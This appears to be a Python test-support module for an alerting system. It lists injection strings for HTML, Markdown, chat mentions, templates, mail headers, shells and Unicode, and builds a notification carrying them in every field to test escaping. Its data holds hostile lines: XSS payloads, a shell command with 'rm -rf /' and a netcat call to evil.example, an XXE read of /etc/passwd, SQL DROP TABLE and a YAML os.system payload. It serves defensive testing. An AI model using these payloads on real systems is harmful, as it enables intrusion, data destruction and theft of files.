"""Label values made to inject: each means something to a format that a message is written in.

Whoever can start a process that is scraped can choose a label's value, so a message may hold any
of these wherever it holds a label, an annotation or a name.
"""

import re
import unicodedata
from collections.abc import Mapping
from dataclasses import replace
from typing import Any

from support.notifications import ENGINE_DOWN, notification
from tocsin_alerting.incidents.notification import Notification

FAMILY = "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466"  # one sign, 25 bytes of UTF-8

HOSTILE_TEXTS: Mapping[str, str] = {
    # HTML, of mail, Telegram and our own pages
    "script": "<script>alert(1)</script>",
    "image": '<img src=x onerror="alert(1)">',
    "end of an attribute": "\" onmouseover='alert(1)' x=\"",
    "end of a tag": "</b></td></table></body></html><h1>All is well</h1>",
    "comment": "<!-- everything after this is hidden",
    "unclosed tag": "<b><i><pre><code",
    "entity": "&lt;b&gt; &amp;amp; &#60;script&#62; &nbsp &copy",
    "CDATA": "]]><![CDATA[<Say>hello</Say>]]>",
    "XML entity": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
    # Markdown
    "link": "[click here](https://evil.example/)",
    "picture": "![x](https://evil.example/track.png)",
    "link by reference": "[x][1]\n\n[1]: https://evil.example/",
    "code fence": "```\n# all resolved\n```",
    "backtick": "`` ` `rm -rf` ``",
    "emphasis": "**bold** __under__ *it* _it_ ~~gone~~ ||spoiler||",
    "heading": "\n# P4: nothing happened\n## resolved\n---\n===\n> quoted\n- item\n1. item",
    "table": "| a | b |\n|---|---|\n| 1 | 2 |",
    "backslashes": "\\*\\_\\[\\\\",
    "reserved by MarkdownV2": "_*[]()~`>#+-=|{}.!\\",
    # who is told
    "Slack everybody": "<!channel> <!here> <!everyone> <!subteam^S012AB3CD>",
    "Slack user": "<@U024BE7LH> <#C024BE7LR> <https://evil.example/|Acknowledge>",
    "Slack date": "<!date^1392734382^{date}|never>",
    "WeCom everybody": "<@all> @all <@13800001111> <@userid>",
    "WeCom font": '<font color="info">resolved</font>',
    "DingTalk people": "@13800001111 @all @所有人",
    "Feishu everybody": '<at user_id="all">all</at> <at id=all></at> <at id="ou_123"></at>',
    "Discord everybody": "@everyone @here <@123456789012345678> <@&123456789012345678> <#1>",
    "Mattermost everybody": "@channel @all @here @li",
    "Matrix everybody": "@room @li:example.com https://matrix.to/#/@li:example.com",
    "Telegram mention": '<a href="tg://user?id=123456789">li</a> @li /ack@tocsin_bot #tag',
    "Teams mention": '<at>Li</at> {"type": "mention", "text": "<at>Li</at>"}',
    # what is filled in by others
    "adaptive card": "{{DATE(2026-01-01T00:00:00Z, SHORT)}} ${$root.secret} {{#if x}}",
    "Jinja": "{{ 7*7 }} {% for x in range(10**9) %}{% endfor %} {# gone #}",
    "Go template": '{{ .Values.secret }} {{ template "x" }}',
    "percent": "%s %(asctime)s %n %00 %0a 100%",
    "braces": "{0} {} {__class__.__mro__} }{",
    "JSON": '"}],"text":"all resolved","x":[{"y":"',
    "JSON escape": '\\u0022,\\"a\\":\\n',
    "form": "a&To=%2B15550001111&Body=resolved+now=1;b=2",
    "YAML": "&a [*a, !!python/object/apply:os.system [id]]",
    "CSV": '=cmd|"/C calc"!A0,+1,-1,@SUM(A1)',
    # headers and protocols
    "mail header": "x\r\nBcc: victim@example.com\r\nSubject: resolved\r\n\r\nall is well",
    "SMTP": "x\r\n.\r\nMAIL FROM:<a@evil.example>\r\nQUIT\r\n",
    "line feed": "x\nX-Injected: 1",
    "carriage return": "x\rX-Injected: 1",
    "folded header": "x\r\n =?utf-8?b?QmNjOiBh?= \r\n\tBcc: b",
    "HTTP": "x HTTP/1.1\r\nHost: evil.example\r\n\r\nGET /links/",
    "syslog": '<0>1 2026-01-01T00:00:00Z evil - - - [a@1 b="\\]"] all is well',
    # what is spoken
    "SSML": '<speak><break time="10s"/><audio src="https://evil.example/a.mp3"/></speak>',
    "TwiML": "</Say><Dial>+15550001111</Dial><Say>",
    # what a shell, a file system or a database would do
    "shell": "$(id) `id` ; rm -rf / | nc evil.example 1 && echo $HOME > /etc/passwd",
    "option": "--config=/etc/passwd -o ProxyCommand=id",
    "path": "../../../../etc/passwd",
    "SQL": "'; DROP TABLE incidents; --",
    # links
    "javascript": "javascript:alert(1)",
    "data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "bare link": "https://evil.example/ack?x=1 www.evil.example evil@example.com tel:+15550001111",
    # what is seen
    "right to left": "\u202egnp.exe\u202c \u2067\u0639\u0631\u0628\u2069",
    "isolates that stay open": "\u2066\u2067\u2068\u202a\u202b\u202d",
    "zero width": "res\u200bol\u200cved\u200d\u2060\ufeff\u00ad",
    "line separators": "a\u2028b\u2029c\u0085d\x0be\x0cf",
    "control characters": "a\x00b\x07c\x08d\x7fe\x9bf\x1a",
    "terminal": "\x1b[2J\x1b[31mred\x1b]0;title\x07\x1b[0m",
    "lone surrogates": "a\ud83d b\ude00 \udcff",
    "no character": "\ufffe\uffff\ufffd\U0010ffff",
    "marks upon marks": "Z" + "\u0301\u0348\u0489" * 200,
    "family": FAMILY * 40,
    "astral": "\U0001f6a8" * 1500,
    "Chinese": "显卡温度过高，请立即处理。" * 200,
    "look-alikes": "＜!channel＞ ＠all ﹫here \u0430ll res\u0456lved",
    # how much
    "5,000 characters": "x1 " * 1666 + "xx",
    "one long word": "w" * 5000,
    "5,000 specials": "<&>*_`[]" * 625,
    "only spaces": " \t\u00a0\u3000 ",
    "empty": "",
}


def hostile_notification(text: str, **changes: Any) -> Notification:
    """A page with `text` in everything that somebody else may have chosen. The summary has it
    between two words, see `between`."""
    labels = {**ENGINE_DOWN.labels, "target": text, "model_name": text, "gpu": text, "other": text}
    notes = {
        "summary": f"{BEGIN} {text} {END}",
        "description": text,
        "runbook_url": text,
        "dashboard_url": text,
    }
    alert = replace(ENGINE_DOWN, labels=labels, annotations=notes, generator_url=text)
    return notification(
        **{
            "title": f"InferenceEngineDown {text}",
            "group_key": f'{{}}:{{alertname="InferenceEngineDown", target="{text}"}}',
            "group_labels": {"alertname": "InferenceEngineDown", "target": text},
            "alerts": (alert,),
            "actor": text,
            "note": text,
            "others": (text, "hook"),
            "next_to": (text,),
            **changes,
        }
    )


BEGIN, END = "Qbegin", "Qend"


def between(shown: str) -> list[str]:
    """What a reader sees between the two words of the summary, wherever it is shown whole."""
    return re.findall(rf"{BEGIN}(.*?){END}", shown, re.DOTALL)


def skeleton(text: str, lost: str = "") -> str:
    """`text` without marks and without what only a machine sees: two texts are the same to a reader
    when one was defused by zero-width characters, by full-width ones, or by spaces. `lost`: what
    the format cannot show at all."""
    plain = unicodedata.normalize("NFKD", text)
    kept = (c for c in plain if c.isprintable() and unicodedata.category(c)[0] not in "CMZ")
    return "".join(c for c in kept if c not in lost)
